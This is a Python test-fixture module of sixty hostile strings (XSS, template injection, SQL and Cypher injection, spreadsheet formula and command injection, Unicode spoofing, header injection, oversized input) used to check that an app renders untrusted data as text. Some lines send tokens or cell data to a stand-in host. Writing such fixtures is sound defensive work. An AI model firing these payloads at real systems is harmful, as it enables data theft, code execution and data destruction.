"""Sixty texts that strangers send to be acted on instead of read; every face must show them as text."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></svg></textarea><script>document.title='hacked'</script>",
    '<a href="javascript:alert(1)">Cy Young</a>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "<!-- --><![CDATA[<script>alert(1)</script>]]>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "' autofocus onfocus=alert(1) x='",
    '<form action="https://evil.example"><input name="token">',
    "<style>*{display:none}</style>",
    "`${alert(1)}`",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__.__init__.__globals__}",
    "{name!r:>9999999999}",
    "%s%s%s%n%x",
    "%(secret)s",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[[${7*7}]] @{7*7}",
)
QUERIES = (
    "'; DROP TABLE message; --",
    "' OR '1'='1",
    '" UNION SELECT digest, member FROM token --',
    "Robert'); DELETE FROM shared WHERE ('1'='1",
    "%' ESCAPE '\\",
    "x' AND randomblob(999999999) --",
    "' OR 1=1 WITH p MATCH (n) DETACH DELETE n //",
    "`}) MATCH (n) RETURN n //",
    "cy'}) RETURN p UNION MATCH (t:Token) RETURN t //",
    'NEAR("a" "b", 10) OR name:*',
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Cy Young")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1","',
    'Cy "the CFO" Young, Esq.;=1+1',
    "\uff1d1+1",
)
UNSEEN = (
    "\u202egnp.exe",
    "\u2066Cy\u2069 \u200fYoung\u200e!",
    "Cy\u200b\u200c\u200d\u2060 Young\ufeff",
    "Cy\x00Young",
    "\x1b[31mred\x1b[0m\x07\x08",
    "Cy\u2028Young\u2029",
    "Cy\r\nBcc: everybody@evil.example",
    "\ud800Cy\udfff",
    "\U000e0041\U000e0042\U000e007f",
    "\u0430nalyst@\u0430cme",
    "Z\u0351\u036b\u0343a\u036f\u0354lgo\u0321\u031f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ea",
)
LONG = (
    "A" * 100_000,
    "\u0141" * 9_999,
    "\u5c71\u7530" * 5_000,
    "Cy, " * 10_000,
)

HOSTILE: tuple[str, ...] = (*MARKUP, *TEMPLATES, *QUERIES, *FORMULAS, *UNSEEN, *LONG)
"""All of them; as names, subjects, companies, titles and notes they show up as text everywhere."""
